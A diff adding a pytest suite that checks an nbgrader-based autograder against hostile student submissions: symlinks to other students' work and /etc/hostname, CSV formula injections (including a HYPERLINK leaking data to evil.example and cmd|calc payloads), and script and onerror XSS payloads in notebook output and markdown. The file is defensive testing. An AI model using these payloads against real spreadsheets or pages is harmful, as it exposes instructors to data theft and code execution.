@@ -1,0 +1,301 @@
+"""Intake and the outputs against a hostile class, through the grading command.
+
+Students control their notebooks' bytes and their folders' names. One grading run (module
+fixture) holds honest students beside attackers: links anywhere in SUBMISSIONS (to another
+student's work, to the course's source/), a student folder named like another student's
+archive, exception messages that a spreadsheet would run as formulas, scripts in what a
+notebook displays and in its markdown, nbgrader's hidden-test markers quoted in a markdown
+cell, a graded cell pasted twice, and a notebook whose feedback page cannot be made.
+"""
+
+import copy
+import csv
+import html
+import re
+import zipfile
+from html.parser import HTMLParser
+
+import nbformat
+import pytest
+from nbconvert import HTMLExporter
+from traitlets.config.loader import PyFileConfigLoader
+
+from autograder.course import REPO, notebook_name
+from autograder.grade import grade
+from autograder.notebooks import nbgrader_meta
+from autograder.outputs import csvfile
+from autograder.outputs.csvfile import FORMULA_START, NUMBER
+from autograder.record.preprocessors import ShowOnlyDiagnoses
+from tests.test_grading import LESSON, LIMITS, solved, student_version, tree_digest
+
+pytestmark = pytest.mark.xdist_group("hostile")
+
+NOTEBOOK = notebook_name(LESSON)
+ESCAPE = "\x1b[2J"  # a terminal's "clear the screen", in a folder name
+HONEST = ["ada", "bea", "ada.zip", "1+1", "2Jeve", "shows_html", "quotes_markers", "pastes_twice"]
+# each link, and the student whose submission it is
+LINKS = {
+    "links_lesson/01_softmax": "links_lesson",
+    "links_folder": "links_folder",
+    f"links_notebook/01_softmax/{NOTEBOOK}": "links_notebook",
+    "links_timestamp/01_softmax/timestamp.txt": "links_timestamp",
+    "links_source/01_softmax": "links_source",
+}
+FORMULAS = {
+    "softmax": '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+    "softmax_jacobian": "+cmd|' /C calc'!A0",
+    "softmax_cross_entropy": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+# what a student's notebook shows that would run in the instructor's browser
+SHOWS = (
+    "from IPython.display import HTML, Javascript, display\n"
+    "display(HTML('<script>window.PWNED = 1</script>"
+    '<img src=x onerror="window.PWNED = 2"><a href="javascript:window.PWNED = 3">x</a>\'))\n'
+    "display(Javascript('window.PWNED = 4'))"
+)
+MARKDOWN = (
+    '<img src=x onerror="window.PWNED = 5"> [a link](javascript:window.PWNED=6) '
+    '<img src="https://evil.example/pixel.png">'
+)
+MARKERS = "Copied from the course: `### BEGIN HIDDEN TESTS`, but no end marker"
+BREAKS = "# this notebook's feedback page cannot be made (fault injected by the test)"
+
+
+def formulas(lesson):
+    """Answers that raise exceptions whose messages are formulas."""
+    nb = student_version(lesson)
+    answers = {}
+    for cell in nb.cells:
+        grade_id = nbgrader_meta(cell).get("grade_id")
+        if grade_id in FORMULAS:
+            name, arguments = re.search(r"def (\w+)\((.*?)\):", cell.source).groups()
+            raised = f"raise ValueError({FORMULAS[grade_id]!r})"
+            answers[grade_id] = f"def {name}({arguments}):\n    {raised}"
+    return student_version(lesson, answers)
+
+
+def with_markdown(nb, *texts):
+    nb.cells[1:1] = [nbformat.v4.new_markdown_cell(text) for text in texts]
+    return nb
+
+
+def pasted_twice(nb):
+    """The test cell of softmax, and the solution cell of softmax_jacobian, pasted below."""
+    for grade_id in ("softmax_test", "softmax_jacobian"):
+        i = next(i for i, c in enumerate(nb.cells) if nbgrader_meta(c).get("grade_id") == grade_id)
+        pasted = copy.deepcopy(nb.cells[i])
+        pasted.id = f"{pasted.id}-pasted"  # the copy JupyterLab pastes has an id of its own
+        nb.cells.insert(i + 1, pasted)
+
+
+def put(root, folder, nb):
+    path = root / folder / LESSON / NOTEBOOK
+    path.parent.mkdir(parents=True, exist_ok=True)
+    nbformat.write(nb, path)
+
+
+def write_class(root):
+    for student in ("ada", "bea", "ada.zip", "=1+1", f"{ESCAPE}eve"):
+        put(root, student, solved(LESSON))
+    put(root, "formulas", formulas(LESSON))
+    put(root, "shows_html", with_markdown(solved(LESSON, extra_cells=[SHOWS]), MARKDOWN))
+    put(root, "quotes_markers", with_markdown(solved(LESSON), MARKERS, "### END SOLUTION"))
+    put(root, "pastes_twice", solved(LESSON, edit=pasted_twice))
+    put(root, "breaks_feedback", solved(LESSON, extra_cells=[BREAKS]))
+    (root / "links_lesson").mkdir()
+    (root / "links_lesson" / LESSON).symlink_to(root / "bea" / LESSON)
+    (root / "links_folder").symlink_to(root / "bea")
+    (root / "links_notebook" / LESSON).mkdir(parents=True)
+    (root / "links_notebook" / LESSON / NOTEBOOK).symlink_to(root / "bea" / LESSON / NOTEBOOK)
+    put(root, "links_timestamp", solved(LESSON))
+    (root / "links_timestamp" / LESSON / "timestamp.txt").symlink_to("/etc/hostname")
+    (root / "links_source").mkdir()
+    (root / "links_source" / LESSON).symlink_to(REPO / "source" / LESSON)
+
+
+def _breaks(original):
+    def preprocess_cell(self, cell, resources, index):
+        if BREAKS in cell.source:
+            raise RuntimeError("injected fault")
+        return original(self, cell, resources, index)
+
+    return preprocess_cell
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    root = tmp_path_factory.mktemp("hostile")
+    submissions, out = root / "submitted", root / "out"
+    write_class(submissions)
+    before = tree_digest(submissions)
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(
+            ShowOnlyDiagnoses, "preprocess_cell", _breaks(ShowOnlyDiagnoses.preprocess_cell)
+        )
+        run = grade(submissions, out, jobs=2, limits=LIMITS, lessons=[LESSON])
+    return {
+        "results": {r.student: r for r in run.results},
+        "notes": dict(run.notes),
+        "out": out,
+        "unchanged": before == tree_digest(submissions),
+    }
+
+
+def page(graded, student):
+    return (graded["out"] / "feedback" / student / LESSON / NOTEBOOK).with_suffix(".html")
+
+
+def test_honest_students_keep_full_marks(graded):
+    for student in HONEST:
+        result = graded["results"][student]
+        assert result.score == result.max_score > 0, (student, result.problem)
+
+
+def test_a_link_anywhere_is_refused_and_named_never_followed(graded):
+    for link, student in LINKS.items():
+        result = graded["results"][student]
+        assert result.score == 0, student
+        assert result.problem == f"refused: {link} is a symbolic link (links are never followed)"
+        assert graded["notes"][link].startswith("refused: a symbolic link"), link
+        assert "refused" in page(graded, student).read_text()
+
+
+def test_intake_notes_print_no_control_character(graded):
+    assert "graded as '2Jeve'" in graded["notes"]["\\x1b[2Jeve"]
+    assert not [where for where in graded["notes"] if not where.isprintable()]
+
+
+def test_submissions_are_only_read(graded):
+    assert graded["unchanged"], "SUBMISSIONS was modified"
+
+
+def test_the_run_grades_everyone(graded):
+    with open(graded["out"] / "grades.csv", newline="", encoding="utf-8") as f:
+        rows = {row["student"]: row for row in csv.DictReader(f)}
+    everyone = {*HONEST, *LINKS.values(), "formulas", "breaks_feedback"}
+    assert set(rows) == everyone == set(graded["results"])
+    for student, row in rows.items():
+        assert float(row["score"]) == graded["results"][student].score
+
+
+def test_a_student_named_like_an_archive_takes_nobody_s_archive(graded):
+    out = graded["out"]
+    assert (out / "feedback" / "ada.zip").is_dir()
+    for student in ("ada", "ada.zip"):
+        with zipfile.ZipFile(out / "feedback-archives" / f"{student}.zip") as z:
+            assert z.namelist() == [f"{student}/{LESSON}/{page(graded, student).name}"]
+
+
+def test_no_csv_cell_is_a_formula(graded):
+    for path in graded["out"].glob("*.csv"):
+        with open(path, newline="", encoding="utf-8") as f:
+            for row in csv.reader(f):
+                for cell in row:
+                    formula = cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)
+                    assert not formula, (path.name, cell)
+    with open(graded["out"] / "exercises.csv", newline="", encoding="utf-8") as f:
+        messages = {
+            row["grade_id"]: row["message"]
+            for row in csv.DictReader(f)
+            if row["student"] == "formulas"
+        }
+    for grade_id, formula in FORMULAS.items():
+        assert formula in messages[f"{grade_id}_test"], "the student's words, never a formula"
+    assert graded["results"]["formulas"].score == 0
+    with open(graded["out"] / "students.csv", newline="", encoding="utf-8") as f:
+        assert {"folder": "'=1+1", "student": "1+1"} in list(csv.DictReader(f))
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        *((formula, "'" + formula) for formula in FORMULAS.values()),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-1", "-1"),
+        ("+2.5", "+2.5"),
+        ("1e-05", "1e-05"),
+        ("ada", "ada"),
+    ],
+)
+def test_a_csv_cell_that_starts_like_a_formula_is_text_and_a_number_a_number(
+    tmp_path, value, written
+):
+    csvfile.write(tmp_path / "t.csv", [["message"], [value]])
+    with open(tmp_path / "t.csv", newline="", encoding="utf-8") as f:
+        assert list(csv.reader(f))[1] == [written]
+
+
+class Elements(HTMLParser):
+    """The elements of a page, with their attributes, and the text of its scripts."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.attributes, self.scripts, self.tag = [], [], None
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        self.tag = tag
+        self.attributes += [(tag, name, value or "") for name, value in attrs]
+
+    def handle_data(self, data):
+        if self.tag == "script":
+            self.scripts.append(data)
+
+
+def assert_inert(html):
+    """Nothing the student wrote runs or fetches: no script of theirs, no event handler or
+    URL of theirs, no javascript: URL, no picture from outside the page."""
+    elements = Elements(html)
+    assert not [s for s in elements.scripts if "PWNED" in s]
+    for tag, name, value in elements.attributes:
+        url = re.sub(r"[\x00-\x20]", "", value).lower()
+        assert "PWNED" not in value and not url.startswith("javascript:"), (tag, name, value)
+        if (tag, name) == ("img", "src"):
+            assert url.startswith("data:"), value
+    return elements
+
+
+def test_feedback_pages_show_what_students_wrote_inert(graded):
+    for student in graded["results"]:
+        elements = assert_inert(page(graded, student).read_text())
+        assert not [a for a in elements.attributes if a[1].startswith("on")], "no handler at all"
+    shown = page(graded, "shows_html").read_text()
+    assert "&lt;script&gt;window.PWNED = 1&lt;/script&gt;" in shown, "shown as text"
+    assert "a link" in shown
+
+
+def test_formgrader_shows_what_students_wrote_inert(graded):
+    """Formgrader renders the autograded notebooks with an HTMLExporter made from the
+    course's nbgrader_config.py and its formgrade template."""
+    course = graded["out"] / "course"
+    config = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
+    config.HTMLExporter.template_name = "formgrade"
+    resources = {"base_url": "", "index": 0, "total": 1, "notebook_path": "", "student": "x"}
+    autograded = course / "autograded" / "shows_html" / LESSON / NOTEBOOK
+    html, _ = HTMLExporter(config=config).from_filename(str(autograded), resources=resources)
+    assert 'class="score tabbable"' in html, "formgrader's own form is kept"
+    assert "&lt;script&gt;window.PWNED = 1&lt;/script&gt;" in html
+    assert_inert(html)
+
+
+def test_quoted_markers_cost_nothing_and_stay_visible(graded):
+    shown = html.unescape(page(graded, "quotes_markers").read_text())
+    assert "B\u200bEGIN HIDDEN TESTS" in shown and "BEGIN HIDDEN TESTS" not in shown
+    assert "E\u200bND SOLUTION" in shown
+
+
+def test_a_graded_cell_pasted_twice_is_graded_once(graded):
+    result = graded["results"]["pastes_twice"]
+    assert [c.grade_id for c in result.cells] == [
+        c.grade_id for c in graded["results"]["ada"].cells
+    ]
+
+
+def test_a_page_that_cannot_be_made_costs_only_itself(graded):
+    result = graded["results"]["breaks_feedback"]
+    assert result.score == result.max_score
+    shown = page(graded, "breaks_feedback").read_text()
+    assert "its feedback page could not be made: RuntimeError: injected fault" in shown
+    assert "Grade cell" in page(graded, "ada").read_text(), "the others' pages are nbgrader's"
